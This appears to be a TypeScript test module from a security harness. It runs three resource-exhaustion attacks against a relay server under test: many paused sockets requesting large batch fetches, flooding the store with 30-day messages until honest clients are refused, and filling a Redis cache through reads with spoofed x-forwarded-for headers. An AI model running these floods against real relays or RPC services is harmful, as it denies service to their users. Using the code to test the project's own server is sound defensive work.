import { setTimeout as sleep } from 'node:timers/promises'
import { aTopic, envelope, type RelayClient } from '../../apps/server/src/relay/testing/relayClient.ts'
import { ask } from '../server/ask.ts'
import { scale } from '../server/settings.ts'
import { attacker } from './requests.ts'
import type { Finding } from './underAttack.ts'
import type { Victim } from './victim.ts'

const large = (topic: string) => ({ topic, message: envelope(72 * 1_024), ttl: 2_592_000, tag: 1100 })

/** Small calls with large answers, on one socket and on many that do not read. */
export async function relayFetch(victim: Victim): Promise<Finding> {
  const sender = await victim.join(attacker)
  const topics = Array.from({ length: 4 }, aTopic)
  for (const topic of topics)
    for (let count = 0; count < 50; count++) await sender.call('irn_publish', large(topic))
  const fetching = JSON.stringify({
    id: 1,
    jsonrpc: '2.0',
    method: 'irn_batchFetchMessages',
    params: { topics },
  })
  const deaf: RelayClient[] = []
  victim.onEnd(() => {
    for (const { socket } of [sender, ...deaf]) socket.terminate()
  })
  for (let count = 0; count < scale(31, 16); count++) {
    const client = await victim.join(attacker).catch(() => undefined)
    if (!client) break
    deaf.push(client)
    client.socket.pause()
    for (let times = 0; times < 60; times++) client.socket.send(fetching)
    // Subscribing delivers the same messages.
    client.socket.send(
      JSON.stringify({ id: 2, jsonrpc: '2.0', method: 'irn_batchSubscribe', params: { topics } }),
    )
  }
  await sleep(scale(6_000, 3_000))
  return { ok: true, note: `${deaf.length} sockets, 60 fetches of 19 MB each` }
}

/** One address with a new key for every few hundred messages, which stay for 30 days. */
export async function relayFill(victim: Victim): Promise<Finding> {
  let kept = 0
  let said = ''
  for (let key = 0; key < 4 && !said; key++) {
    const client = await victim.join(attacker)
    victim.onEnd(() => client.socket.terminate())
    for (let batch = 0; batch < 95 && !said; batch++) {
      const messages = Array.from({ length: 10 }, () => large(aTopic()))
      const { error } = await client.call('irn_batchPublish', { messages })
      if (!error) kept += 10
      else if (/full/.test(error.message)) said = error.message
      else await sleep(1_000)
    }
  }
  const honest = await victim.join('192.0.2.103')
  const { error } = await honest.call('irn_publish', { ...large(aTopic()), ttl: 300 })
  const proposed = await honest.call('wc_proposeSession', {
    pairingTopic: aTopic(),
    sessionProposal: envelope(70 * 1_024),
  })
  await honest.close()
  return {
    ok: !error && !proposed.error && said !== '',
    note: `${kept} messages of 96 kB kept of the attacker (${said || 'never refused'}); others ${(error ?? proposed.error) ? 'are refused' : 'are served'}`,
  }
}

/** Reads of old blocks, which are cached for a day, with one Redis of 24 MB for everything. */
export async function redisFill({ server, rpc, join }: Victim): Promise<Finding> {
  const read = (block: number) =>
    ask(server.url, {
      method: 'POST',
      path: rpc,
      body: `{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["0x${block.toString(16)}",true]}`,
      headers: { 'x-forwarded-for': `203.0.113.${block % 50}` },
    })
  for (let block = 0x100000; block < 0x100000 + scale(400, 240); block++) await read(block)
  await sleep(1_500)
  const client = await join('192.0.2.104')
  const { error } = await client.call('irn_publish', { ...large(aTopic()), ttl: 300 })
  await client.close()
  return { ok: !error, note: `publishing afterwards: ${error?.message ?? 'kept'}` }
}
